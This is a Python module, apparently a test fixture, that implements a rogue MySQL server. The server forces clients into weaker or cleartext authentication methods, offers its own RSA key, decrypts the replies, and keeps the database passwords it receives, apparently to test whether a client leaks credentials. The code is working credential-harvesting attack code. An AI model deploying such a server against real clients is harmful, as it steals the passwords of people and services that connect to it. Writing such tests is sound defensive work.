"""A server that is not who it claims: it asks for a log-in of its choice, and keeps what it gets.

The messages are those of the MySQL protocol, version 10: handshake, response, and a request to switch the method
(https://dev.mysql.com/doc/dev/mysql-server/latest/page_protocol_connection_phase.html).
"""
import contextlib
import socket
import struct
import subprocess
import threading

SALT = b"12345678901234567890"
# CLIENT_LONG_PASSWORD, CONNECT_WITH_DB, PROTOCOL_41, TRANSACTIONS, SECURE_CONNECTION, PLUGIN_AUTH
ABILITIES = 0x1 | 0x8 | 0x200 | 0x2000 | 0x8000 | 0x80000
MORE = b"\x01"  # a packet with more data for the method begins so
PUBLIC_KEY_PLEASE = (b"\x01", b"\x02")  # sha256_password, caching_sha2_password


def packet(number, body):
    return struct.pack("<I", len(body))[:3] + bytes([number % 256]) + body


def handshake(method):
    return packet(0, b"\x0a8.0.36\0" + struct.pack("<I", 7) + SALT[:8] + b"\0" + struct.pack("<H", ABILITIES & 0xffff) +
                  b"\x21" + struct.pack("<HH", 2, ABILITIES >> 16) + bytes([len(SALT) + 1]) + bytes(10) + SALT[8:] +
                  b"\0" + method.encode() + b"\0")


class Rogue:
    """Serves one connection after the other; `got` has every body that clients sent.

    begin: the method of the handshake; switch: what it asks for then, "" a hash from before 4.1, None nothing."""

    def __init__(self, begin, switch, keys):
        self.begin, self.switch, self.got = begin, switch, []
        self.key = f"{keys}/rogue.pem"
        subprocess.run(["openssl", "genrsa", "-out", self.key, "2048"], check=True, capture_output=True)
        self.public = subprocess.run(["openssl", "rsa", "-in", self.key, "-pubout"], check=True, capture_output=True).stdout
        self.socket = socket.create_server(("", 0))  # every address of this machine
        self.port = self.socket.getsockname()[1]
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        with contextlib.suppress(OSError):
            while True:
                with self.socket.accept()[0] as client:
                    client.settimeout(5)
                    with contextlib.suppress(OSError, EOFError):
                        self.lead_on(client)

    def lead_on(self, client):
        with client.makefile("rb") as stream:
            client.sendall(handshake(self.begin))
            number = self.read(stream)
            if self.switch == "":
                client.sendall(packet(number + 1, b"\xfe"))
            elif self.switch is not None:
                client.sendall(packet(number + 1, b"\xfe" + self.switch.encode() + b"\0" + SALT + b"\0"))
            while True:
                number = self.read(stream)
                if self.got[-1] in PUBLIC_KEY_PLEASE:
                    client.sendall(packet(number + 1, MORE + self.public))
                else:
                    client.sendall(packet(number + 1, MORE + b"\x04"))  # "in full, please"

    def read(self, stream):
        head = stream.read(4)
        if len(head) < 4:
            raise EOFError
        self.got.append(stream.read(int.from_bytes(head[:3], "little")))
        return head[3]

    def opened(self, body):
        """What was encrypted with the rogue's key, in clear text; b"" when it was not."""
        done = subprocess.run(["openssl", "pkeyutl", "-decrypt", "-inkey", self.key, "-pkeyopt", "rsa_padding_mode:oaep"],
                              input=body, capture_output=True, check=False)
        return bytes(a ^ b for a, b in zip(done.stdout, SALT * 20)) if done.returncode == 0 else b""

    def knows(self, password):
        """It has the password, or what can be turned into it."""
        secret = password.encode()
        return any(secret in body or (len(body) == 256 and secret in self.opened(body)) for body in self.got)

    def stop(self):
        self.socket.close()
